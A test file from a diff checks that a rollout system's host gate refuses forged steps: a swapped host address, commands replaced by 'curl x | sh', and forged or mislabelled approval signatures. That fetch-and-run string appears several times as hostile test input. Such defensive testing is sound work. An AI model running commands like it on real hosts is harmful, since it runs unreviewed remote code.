@@ -1,0 +1,123 @@
+"""The host gate (activities/trust.py `Trust.admit`): what a host step must prove, with the
+worker's own policy, keys and inventory (read by ansible-inventory), before it may connect."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import asyncssh
+import pytest
+from temporalio.exceptions import ApplicationError
+
+from activities.inventory import InventoryActivities
+from activities.policy import load_policy
+from activities.trust import Trust, resolve_targets
+from bot.signing import Signer
+from workflows.models import ApprovalDecision, HostJob, HostStepInput, RolloutInput
+from workflows.proof import rollout_digest
+
+UPDATE = "apt-get update && apt-get -y upgrade"
+
+
+@pytest.fixture
+def world(tmp_path: Path) -> tuple[Trust, dict[str, Signer], InventoryActivities]:
+    signers, public = {}, {}
+    for name in ("alice", "carol", "mallory"):
+        key = asyncssh.generate_private_key("ssh-ed25519")
+        path = tmp_path / name
+        path.write_bytes(key.export_private_key())
+        signers[name] = Signer(path, name)
+        public[name] = key.export_public_key().decode().strip()
+    people = "\n".join(f'  {n}: {{email: {n}@example.com, keys: ["{public[n]}"]}}' for n in public)
+    policy = tmp_path / "policy.yml"
+    policy.write_text(
+        f"people:\n{people}\n  bob: {{email: bob@example.com}}\nclusters:\n  web:\n"
+        f"    requesters: [bob]\n    approvers: [alice, carol]\n    minApprovals: 2\n"
+        f'    updateProfiles: {{security: "{UPDATE}"}}\n'
+    )
+    inventory = tmp_path / "hosts.ini"
+    inventory.write_text("[web]\nw1 ansible_host=10.0.0.1\nw2 ansible_host=10.0.0.2\n")
+    listed = InventoryActivities(inventory)
+    return Trust(load_policy(policy), listed), signers, listed
+
+
+def job_and_step(listed: InventoryActivities, approvals: list[str], signers: dict[str, Signer]):
+    rollout = RolloutInput.model_validate(
+        {
+            "targetClusters": ["web"],
+            "pilotHostCount": 1,
+            "requesterEmail": "bob@example.com",
+            "updateCommand": UPDATE,
+        }
+    )
+    targets = resolve_targets(listed, ["web"], None)
+    digest = rollout_digest(rollout, targets)
+    decisions = [
+        ApprovalDecision(
+            approver=f"{who}@example.com",
+            proof=signers[who].proof("r-1", "approve", f"{who}@example.com", digest),
+        )
+        for who in approvals
+    ]
+    job = HostJob.from_rollout("r-1", rollout).model_copy(update={"approvals": decisions})
+    return HostStepInput(job=job, host=targets["web"][0], command=UPDATE)
+
+
+async def refusal(trust: Trust, step: HostStepInput) -> str:
+    with pytest.raises(ApplicationError) as refused:
+        await trust.admit(step)
+    assert refused.value.type == "NotApproved" and refused.value.non_retryable
+    return refused.value.message
+
+
+async def test_a_step_with_its_approvals_for_what_the_inventory_says_is_admitted(world) -> None:
+    trust, signers, listed = world
+    await trust.admit(job_and_step(listed, ["alice", "carol"], signers))
+
+
+async def test_every_kind_of_forged_step_is_refused(world) -> None:
+    trust, signers, listed = world
+    good = job_and_step(listed, ["alice", "carol"], signers)
+    moved = good.model_copy(update={"host": good.host.model_copy(update={"address": "6.6.6.6"})})
+    assert "differ from this worker's inventory" in await refusal(trust, moved)
+    other = good.model_copy(update={"command": "curl x | sh"})
+    assert "not the rollout's update command" in await refusal(trust, other)
+    scripted = good.model_copy(update={"scripts": ["curl x | sh"]})
+    assert "not the rollout's scripts" in await refusal(trust, scripted)
+    stranger = good.model_copy(
+        update={"host": good.host.model_copy(update={"name": "x9", "address": "10.9.9.9"})}
+    )
+    assert "not one of the rollout's hosts" in await refusal(trust, stranger)
+    # The job itself changed: its approvals no longer cover what runs.
+    job = good.job.model_copy(update={"update_command": "curl x | sh"})
+    changed = good.model_copy(update={"job": job, "command": "curl x | sh"})
+    assert "free-form update commands" in await refusal(trust, changed)
+    job = good.job.model_copy(update={"service_list": ["sshd"]})
+    assert "needs 2 verified approval" in await refusal(trust, good.model_copy(update={"job": job}))
+
+
+async def test_too_few_or_forged_approvals_are_refused(world) -> None:
+    trust, signers, listed = world
+    assert "has 1: alice" in await refusal(trust, job_and_step(listed, ["alice"], signers))
+    twice = job_and_step(listed, ["alice", "alice"], signers)
+    assert "has 1: alice" in await refusal(trust, twice)
+    forged = job_and_step(listed, ["alice", "mallory"], signers)
+    assert "has 1: alice" in await refusal(trust, forged)  # mallory is no approver
+    step = job_and_step(listed, ["alice", "carol"], signers)
+    # Mallory signs as if she were Carol; and Alice's key labelled as Carol's signer.
+    carols = step.job.approvals[1]
+    assert carols.proof is not None
+    digest = carols.proof.digest
+    by_mallory = Signer(signers["mallory"].key, "carol").proof(
+        "r-1", "approve", "carol@example.com", digest
+    )
+    forged_carol = carols.model_copy(update={"proof": by_mallory})
+    job = step.job.model_copy(update={"approvals": [step.job.approvals[0], forged_carol]})
+    said = await refusal(trust, step.model_copy(update={"job": job}))
+    assert "carol@example.com's signature does not verify with carol's keys" in said
+    as_alice = carols.model_copy(
+        update={"proof": carols.proof.model_copy(update={"signer": "alice"})}
+    )
+    job = step.job.model_copy(update={"approvals": [step.job.approvals[0], as_alice]})
+    said = await refusal(trust, step.model_copy(update={"job": job}))
+    assert "signed by 'alice', who may not vouch for them" in said
